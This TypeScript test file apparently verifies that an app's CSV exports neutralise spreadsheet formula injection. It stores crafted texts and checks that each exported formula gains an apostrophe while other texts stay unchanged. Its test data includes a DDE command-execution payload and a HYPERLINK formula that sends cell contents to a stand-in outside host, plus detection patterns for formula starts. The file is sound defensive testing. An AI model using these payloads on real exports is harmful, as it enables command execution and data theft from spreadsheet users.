import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { calls } from '../contract/calls.ts';
import { openStorage } from '../storage/open.ts';
import type { Storage } from '../storage/storage.ts';
import { testEngines } from '../testing/databases/test-databases.ts';
import { PROGRAM, startServer } from '../testing/server-process.ts';
import { signIn } from '../testing/signed-in.ts';
import { expectFailure, type Proof, require } from './proof.ts';
import { weakening, withWeakened } from './weakened-program.ts';

const ADMIN = '+15550001111';
const NOON = Date.UTC(2025, 5, 14, 12);
/** Characters that start a formula in spreadsheets, with the wide forms of Chinese and Japanese keyboards. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const FORMULAS = [
  '',
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://elsewhere.example/?"&A1,"x")',
];
/** Cells with a formula for spreadsheets that split at semicolons, tabs or line breaks. */
const WITHIN = [';', ';"', ';""', '\t', '\r\n'].flatMap((cut) =>
  STARTS.filter((start) => start.trim() !== '').map((start) => `a${cut}${start}1+1;b`),
);
const START = `[${STARTS.join('').replace('-', '\\-')}]`;
const BEGINS = new RegExp(`^(?=${START})`);
const BEGINS_WITHIN = new RegExp(`([;\t\r\n]"*)(?=${START})`, 'g');
/** Texts without a formula, which must be exported unchanged. */
const PLAIN = [
  'ana',
  'a=b',
  '"',
  '""',
  ',',
  ';1+1',
  'a; "b"',
  'a\nb',
  'a\r\nb',
  "'=1",
  ' =1',
  '名前',
  '1e9',
];
const texts = [
  ...STARTS.flatMap((start) => FORMULAS.map((rest) => start + rest)),
  ...WITHIN,
  ...PLAIN,
];

const UNESCAPED = weakening('server/csv.ts', `.replace(FORMULA, "'")`, '');

export const inertCsv: Proof = {
  id: 'V5',
  promise: 'No cell of an exported CSV is a formula, and every other text is exported unchanged.',
  variants: testEngines.map(({ name }) => name),
  run: (engine) => exportTexts(engine),
  control: { without: 'the apostrophe before a formula', run: exportTextsWeakened },
};

/** Runs the check with a program that exports formulas unchanged. The check must fail. */
export function exportTextsWeakened(engine: string): Promise<string> {
  return withWeakened(UNESCAPED, (program) =>
    expectFailure(/^A cell is a formula/, () => exportTexts(engine, program)),
  );
}

/** Stores each text as a name, an id and an address, and reads it back from each CSV. */
export async function exportTexts(engine: string, program: string = PROGRAM): Promise<string> {
  const server = await startServer({ engine, program, env: { RATE_LIMITS: 'off' } });
  const storage = await openStorage(server.databaseUrl, 'command');
  try {
    // Written directly to the storage, because the calls refuse some of these texts.
    for (const text of texts) {
      const profile = { firstName: text, profileImageUrl: null };
      await storage.inviters.put({ id: `${text}!`, username: text, ...profile });
      await storage.inviteEvents.visit({ ...VISIT, inviterId: `${text}!` });
      await storage.waitlist.join(`${text}@example.com`, NOON);
    }
    const analytics = rowsOf(await downloadAnalytics(server.url, storage));
    const waitlist = rowsOf(await exportWaitlist(server.databaseUrl, program));
    requireCells(
      analytics.map(({ username }) => username),
      texts,
    );
    requireCells(
      analytics.map(({ userId }) => userId),
      texts.map((text) => `${text}!`),
    );
    requireCells(
      waitlist.map(({ email }) => email),
      texts.map((text) => `${text}@example.com`),
    );
    return `${texts.length} texts, ${STARTS.length * FORMULAS.length + WITHIN.length} of them formulas, in ${analytics.length} rows of figures and ${waitlist.length} of the waitlist: no cell is a formula, and all other texts are unchanged`;
  } finally {
    await storage.close();
    await server.stop();
  }
}

const VISIT = { action: 'page_view', eventId: undefined, at: NOON, excluded: undefined } as const;

async function downloadAnalytics(url: string, storage: Storage): Promise<string> {
  await storage.admins.add(ADMIN, NOON);
  const { userId, headers } = await signIn({ storage, clock: Date.now, https: false }, ADMIN);
  const query = new URLSearchParams({ userId });
  const answer = await fetch(`${url}${calls.getAnalyticsCsv.path}?${query}`, { headers });
  require(answer.status === 200, `The request for the figures was answered ${answer.status}.`);
  return await answer.text();
}

async function exportWaitlist(databaseUrl: string, program: string): Promise<string> {
  const env = { DATABASE_URL: databaseUrl };
  return (await promisify(execFile)(program, ['export', 'waitlist'], { env })).stdout;
}

/** @throws unless the text is valid CSV (RFC 4180) */
function rowsOf(csv: string): Record<string, string>[] {
  require(csv.endsWith('\r\n'), 'The last line does not end with CRLF.');
  const options = {
    bom: true,
    columns: true,
    record_delimiter: '\r\n',
    relax_quotes: false,
  } as const;
  return parse(csv, options);
}

function requireCells(cells: (string | undefined)[], originals: readonly string[]): void {
  const running = cells.filter(
    (cell = '') => BEGINS.test(cell) || cell.search(BEGINS_WITHIN) !== -1,
  );
  require(running.length === 0, `A cell is a formula: ${JSON.stringify(running[0])}`);
  const inert = originals.map((text) => text.replace(BEGINS_WITHIN, "$1'").replace(BEGINS, "'"));
  const missing = inert.filter((text) => !cells.includes(text));
  require(missing.length === 0, `A cell is missing: ${JSON.stringify(missing[0])}`);
  require(cells.length === originals.length, `There are ${cells.length} rows.`);
}
